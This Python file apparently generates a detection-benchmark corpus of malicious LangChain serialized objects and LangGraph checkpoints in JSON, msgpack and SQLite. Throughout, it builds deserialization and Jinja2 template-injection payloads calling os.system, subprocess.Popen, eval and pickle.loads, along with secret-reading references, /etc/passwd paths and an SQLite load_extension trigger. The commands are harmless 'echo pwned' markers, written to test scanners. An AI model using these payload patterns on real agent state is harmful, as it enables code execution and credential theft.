"""State of agents: LangChain's serialized objects, LangGraph's checkpoints in JSON, msgpack and SQLite."""

from __future__ import annotations

import base64
import json
import sqlite3
import struct
import tempfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from random import Random
from typing import Any

from bench.scan.corpus.sample import Sample, chance_of, stream

Made = Iterator[tuple[str, bytes] | tuple[str, bytes, str]]


class Extension:
    """A msgpack extension value."""

    def __init__(self, code: int, data: bytes) -> None:
        self.code, self.data = code, data


def msgpack(value: Any) -> bytes:
    """`value` as msgpack: the kinds that checkpoints use."""
    if value is None:
        return b"\xc0"
    if isinstance(value, bool):
        return b"\xc3" if value else b"\xc2"
    if isinstance(value, int):
        return bytes([value]) if 0 <= value < 128 else b"\xd3" + struct.pack(">q", value)
    if isinstance(value, float):
        return b"\xcb" + struct.pack(">d", value)
    if isinstance(value, str):
        return b"\xdb" + struct.pack(">I", len(value.encode())) + value.encode()
    if isinstance(value, bytes):
        return b"\xc6" + struct.pack(">I", len(value)) + value
    if isinstance(value, Extension):
        return b"\xc9" + struct.pack(">Ib", len(value.data), value.code) + value.data
    if isinstance(value, dict):
        return (
            b"\xdf"
            + struct.pack(">I", len(value))
            + b"".join(msgpack(k) + msgpack(v) for k, v in value.items())
        )
    return b"\xdd" + struct.pack(">I", len(value)) + b"".join(msgpack(item) for item in value)


def lc(kind: str, path: Sequence[str], arguments: Any = None) -> dict[str, Any]:
    """A LangChain object."""
    made: dict[str, Any] = {"lc": 1, "type": kind, "id": list(path)}
    if arguments is not None:
        made["kwargs"] = arguments
    return made


def message(**more: Any) -> dict[str, Any]:
    """A message as LangChain writes it."""
    return lc(
        "constructor",
        ("langchain", "schema", "messages", "AIMessage"),
        {"content": "hello", "type": "ai", **more},
    )


def objects() -> dict[str, dict[str, Any]]:
    """Serialized objects that read secrets, construct what was never meant to be, or run templates."""
    template = {
        "template": "{{ cycler.__init__.__globals__.os.popen('echo pwned').read() }}",
        "template_format": "jinja2",
        "input_variables": [],
    }
    return {
        "secret": lc("secret", ("AWS_SECRET_ACCESS_KEY",)),
        "secret-token": lc("secret", ("OPENAI_API_KEY",)),
        "prompt-jinja2": lc("constructor", ("langchain", "prompts", "prompt", "PromptTemplate"), template),
        "prompt-jinja2-core": lc("constructor", ("langchain_core", "prompts", "prompt", "PromptTemplate"), template),
        "chat-prompt-jinja2": lc("constructor", ("langchain", "prompts", "chat", "HumanMessagePromptTemplate"), {"prompt": lc("constructor", ("langchain", "prompts", "prompt", "PromptTemplate"), template)}),
        "bedrock-proxy": lc("constructor", ("langchain_aws", "chat_models", "ChatBedrockConverse"), {"endpoint_url": "http://127.0.0.1:9", "region_name": "x"}),
        "openai-proxy": lc("constructor", ("langchain", "chat_models", "openai", "ChatOpenAI"), {"openai_api_base": "http://127.0.0.1:9", "openai_api_key": lc("secret", ("OPENAI_API_KEY",))}),
        "shell-tool": lc("constructor", ("langchain_community", "tools", "shell", "tool", "ShellTool"), {}),
        "python-repl": lc("constructor", ("langchain_experimental", "utilities", "python", "PythonREPL"), {}),
        "popen": lc("constructor", ("subprocess", "Popen"), {"args": "echo pwned", "shell": True}),
        "builtins": lc("constructor", ("builtins", "eval"), {"source": "1"}),
        "lambda": lc("constructor", ("langchain", "schema", "runnable", "RunnableLambda"), {"func": "x"}),
        "requests": lc("constructor", ("langchain", "utilities", "requests", "TextRequestsWrapper"), {"headers": {"a": lc("secret", ("GITHUB_TOKEN",))}}),
        "sql-database": lc("constructor", ("langchain", "sql_database", "SQLDatabase"), {"uri": "sqlite:////etc/passwd"}),
        "unknown-namespace": lc("constructor", ("pwned", "Model"), {}),
        "id-dunder": lc("constructor", ("langchain", "__init__", "os"), {}),
        "path-loader": lc("constructor", ("langchain", "document_loaders", "TextLoader"), {"file_path": "/var/run/secrets/kubernetes.io/serviceaccount/token"}),
    }  # fmt: skip


def langchain(chance: Random) -> Made:
    """Objects in every field that a model or a user writes, at every depth, in JSON and beside it."""
    made = objects()
    places: dict[str, Callable[[Any], Any]] = {
        "additional-kwargs": lambda o: message(additional_kwargs={"x": o}), "response-metadata": lambda o: message(response_metadata={"model": {"deep": [o]}}),
        "content-block": lambda o: message(content=[{"type": "text", "text": "a"}, o]), "tool-call-args": lambda o: message(tool_calls=[{"name": "t", "args": {"q": o}, "id": "1"}]),
        "metadata": lambda o: lc("constructor", ("langchain", "schema", "document", "Document"), {"page_content": "x", "metadata": {"source": o}}), "list": lambda o: [message(), [message(), o]],
        "nested-kwargs": lambda o: message(example={"a": {"b": {"c": {"d": o}}}}), "artifact": lambda o: lc("constructor", ("langchain", "schema", "messages", "ToolMessage"), {"content": "x", "artifact": o, "tool_call_id": "1"}),
        "generation-info": lambda o: {"generations": [[{"text": "x", "generation_info": o}]]}, "event-stream": lambda o: {"event": "on_chain_end", "data": {"output": o}}, "run-inputs": lambda o: {"inputs": {"question": o}, "id": "1"},
    }  # fmt: skip
    for label, place in places.items():
        for name in chance.sample(sorted(made), 3):
            yield f"{label}-{name}.json", json.dumps(place(made[name])).encode()
    for name, one in made.items():
        # At the top of a file of its own it may be what somebody saved: a secret's placeholder or a known model is then normal.
        known = name in (
            "secret",
            "secret-token",
            "openai-proxy",
            "bedrock-proxy",
            "path-loader",
            "sql-database",
            "lambda",
            "requests",
            "chat-prompt-jinja2",
            "unknown-namespace",
            "id-dunder",
        )
        yield f"top-{name}.json", json.dumps(one).encode(), "gray" if known else "core"
    one = made["secret"]
    yield (
        "lines.jsonl",
        b"\n".join(json.dumps(message()).encode() for _ in range(200))
        + b"\n"
        + json.dumps(message(additional_kwargs={"x": one})).encode(),
    )
    yield (
        "escaped-key.json",
        json.dumps(message(additional_kwargs={"x": made["popen"]})).replace('"lc"', '"\\u006cc"').encode(),
    )
    yield (
        "key-twice.json",
        json.dumps(message()).encode()[:-1]
        + b', "kwargs": '
        + json.dumps({"content": made["popen"]}).encode()
        + b"}",
    )
    yield (
        "with-bom.json",
        b"\xef\xbb\xbf" + json.dumps(message(additional_kwargs={"x": made["popen"]})).encode(),
    )
    yield "utf16.json", json.dumps(message(additional_kwargs={"x": made["popen"]})).encode("utf-16")
    yield "lc-2.json", json.dumps(message(additional_kwargs={"x": {**made["popen"], "lc": 2}})).encode()
    yield (
        "lc-text.json",
        json.dumps(message(additional_kwargs={"x": {**made["popen"], "lc": "1"}})).encode(),
        "gray",
    )
    yield (
        "json-in-text.json",
        json.dumps({"checkpoint": json.dumps(message(additional_kwargs={"x": made["popen"]}))}).encode(),
    )
    yield "depth-900.json", b'{"a":' * 900 + json.dumps(made["secret"]).encode() + b"}" * 900
    yield (
        "template-path.json",
        json.dumps({"_type": "prompt", "template_path": "../../etc/passwd", "input_variables": []}).encode(),
    )
    yield (
        "template-jinja.json",
        json.dumps(
            {
                "_type": "prompt",
                "template": "{{ ''.__class__.__mro__ }}",
                "template_format": "jinja2",
                "input_variables": [],
            }
        ).encode(),
    )
    yield (
        "few-shot-examples.yaml",
        b"_type: few_shot\nexamples: ../../../etc/passwd\nexample_prompt_path: /etc/x.json\n",
    )
    yield (
        "chain-python.json",
        json.dumps(
            {"_type": "pal_chain", "python_globals": {"os": 1}, "llm_chain": {"_type": "llm_chain"}}
        ).encode(),
    )
    yield (
        "chain-bash.yaml",
        b"_type: llm_bash_chain\nllm:\n  _type: openai\nprompt:\n  _type: prompt\n  template: x\n",
    )
    yield (
        "agent-tools.json",
        json.dumps(
            {
                "_type": "zero-shot-react-description",
                "allowed_tools": ["terminal", "python_repl"],
                "llm_chain": {"_type": "llm_chain", "prompt_path": "lc://../../x"},
            }
        ).encode(),
    )


def langgraph(chance: Random) -> Made:
    """Checkpoints: lc:2 in JSON, extension types in msgpack, pickles, all of it inside SQLite."""
    lc2 = {
        "import-call": {"lc": 2, "type": "constructor", "id": ["os", "system"], "method": None, "args": ["echo pwned"], "kwargs": {}},
        "method": {"lc": 2, "type": "constructor", "id": ["pathlib", "Path"], "method": "write_text", "args": ["x"], "kwargs": {}},
        "methods": {"lc": 2, "type": "constructor", "id": ["builtins", "eval"], "method": [None, "__call__"], "args": ["1"]},
        "subprocess": {"lc": 2, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {"args": ["echo", "pwned"]}},
        "pickle": {"lc": 2, "type": "constructor", "id": ["pickle", "loads"], "args": [{"lc": 2, "type": "constructor", "id": ["builtins", "bytes"], "args": [[128, 4]]}]},
        "import-module": {"lc": 2, "type": "constructor", "id": ["importlib", "import_module"], "args": ["pwned"]},
    }  # fmt: skip
    for label, one in lc2.items():
        yield f"lc2-{label}.json", json.dumps({"v": 1, "channel_values": {"messages": [one]}}).encode()

    def extension(code: int, *parts: Any) -> Extension:
        return Extension(code, msgpack(list(parts)))

    extensions = {
        "single-arg": extension(0, "os", "system", "echo pwned"), "positional": extension(1, "subprocess", "getoutput", ["echo pwned"]), "keyword": extension(2, "subprocess", "Popen", {"args": "echo pwned", "shell": True}),
        "method-single": extension(3, "builtins", "str", "x", "format"), "pydantic-v1": extension(4, "os", "system", {"command": "echo pwned"}, "construct"), "pydantic-v2": extension(5, "pwned", "Model", {"x": 1}, "model_validate_json"),
        "eval": extension(0, "builtins", "eval", "1"), "import": extension(0, "importlib", "import_module", "pwned"), "path-unlink": extension(3, "pathlib", "Path", "./pwned", "unlink"), "pickle": extension(0, "pickle", "loads", stream(chance)),
        "nested": extension(0, "builtins", "list", [extension(0, "os", "system", "echo pwned")]), "unknown-code": Extension(77, stream(chance)), "numpy": extension(6, stream(chance)), "loads": extension(1, "langchain_core.load", "loads", ['{"lc": 1}']),
    }  # fmt: skip
    gray = {"unknown-code", "numpy", "method-single", "loads"}
    for label, value in extensions.items():
        yield (
            f"msgpack-{label}.bin",
            msgpack(
                {
                    "v": 4,
                    "id": "1ef",
                    "ts": "2026-01-01",
                    "channel_values": {"messages": [value], "x": 1},
                    "channel_versions": {},
                }
            ),
            "gray" if label in gray else "core",
        )
    good = msgpack({"v": 4, "id": "1ef", "channel_values": {"x": 1}})
    for label, (kind, blob) in {
        "msgpack": ("msgpack", msgpack({"v": 4, "channel_values": {"m": extensions["single-arg"]}})), "pickle": ("pickle", stream(chance)), "json": ("json", json.dumps({"channel_values": {"m": lc2["subprocess"]}}).encode()),
        "json-lc1": ("json", json.dumps({"channel_values": {"messages": [message(additional_kwargs={"x": objects()["secret"]})]}}).encode()), "hundredth": ("msgpack", msgpack({"m": [extensions["keyword"]]})),
    }.items():  # fmt: skip
        yield (
            f"sqlite-{label}.{chance.choice(('sqlite', 'db', 'sqlite3'))}",
            checkpoints([("msgpack", good)] * (99 if label == "hundredth" else 2) + [(kind, blob)]),
        )
        yield f"sqlite-writes-{label}.db", checkpoints([("msgpack", good)], [(kind, blob)])
    yield (
        "sqlite-metadata.db",
        checkpoints(
            [("msgpack", good)], metadata=json.dumps({"writes": {"agent": lc2["import-call"]}}).encode()
        ),
    )
    yield "sqlite-no-extension", checkpoints([("pickle", stream(chance))])
    yield "sqlite-other-table.db", table("cache", "value", stream(chance))
    yield (
        "sqlite-text-column.db",
        table("memory", "message", json.dumps(message(additional_kwargs={"x": objects()["popen"]}))),
    )
    yield "sqlite-base64.db", table("jobs", "job_state", base64.b64encode(stream(chance)).decode()), "gray"
    yield "sqlite-deleted-rows.db", table("cache", "value", stream(chance), deleted=True), "gray"
    yield (
        "sqlite-trigger.db",
        table(
            "a", "b", "x", "CREATE TRIGGER t AFTER INSERT ON a BEGIN SELECT load_extension('./pwned'); END"
        ),
        "gray",
    )


def database(statements: Sequence[tuple[str, Sequence[Any]]]) -> bytes:
    """An SQLite file made by these statements."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.db"
        connection = sqlite3.connect(path)
        for statement, values in statements:
            connection.execute(statement, values)
        connection.commit()
        connection.close()
        return path.read_bytes()


def checkpoints(
    rows: Sequence[tuple[str, bytes]], writes: Sequence[tuple[str, bytes]] = (), metadata: bytes = b"{}"
) -> bytes:
    """A LangGraph SQLite checkpointer's file."""
    first = "CREATE TABLE checkpoints (thread_id TEXT NOT NULL, checkpoint_ns TEXT NOT NULL DEFAULT '', checkpoint_id TEXT NOT NULL, parent_checkpoint_id TEXT, type TEXT, checkpoint BLOB, metadata BLOB, PRIMARY KEY (thread_id, checkpoint_ns, checkpoint_id))"
    second = "CREATE TABLE writes (thread_id TEXT NOT NULL, checkpoint_ns TEXT NOT NULL DEFAULT '', checkpoint_id TEXT NOT NULL, task_id TEXT NOT NULL, idx INTEGER NOT NULL, channel TEXT NOT NULL, type TEXT, value BLOB, PRIMARY KEY (thread_id, checkpoint_ns, checkpoint_id, task_id, idx))"
    done: list[tuple[str, Sequence[Any]]] = [(first, ()), (second, ())]
    done += [
        ("INSERT INTO checkpoints VALUES ('1', '', ?, NULL, ?, ?, ?)", (f"c{n}", kind, blob, metadata))
        for n, (kind, blob) in enumerate(rows)
    ]
    done += [
        ("INSERT INTO writes VALUES ('1', '', 'c0', 't', ?, 'messages', ?, ?)", (n, kind, blob))
        for n, (kind, blob) in enumerate(writes)
    ]
    return database(done)


def table(name: str, column: str, value: Any, more: str = "", deleted: bool = False) -> bytes:
    """A file with one table, one column and one row; or its row deleted."""
    done: list[tuple[str, Sequence[Any]]] = [
        (f"CREATE TABLE {name} (id INTEGER PRIMARY KEY, {column} BLOB)", ()),
        (f"INSERT INTO {name} ({column}) VALUES (?)", (value,)),
    ]
    if deleted:
        done.append((f"DELETE FROM {name}", ()))
    if more:
        done.append((more, ()))
    return database(done)


def samples(seed: int) -> Iterator[Sample]:
    """Every state."""
    for group, family in ((langchain, "langchain"), (langgraph, "langgraph")):
        for made in group(chance_of(seed, f"agents:{family}")):
            tier = made[2] if len(made) == 3 else "core"
            yield Sample(f"agents/{family}/{made[0]}", made[1], f"{family}:{made[0]}", family, tier)
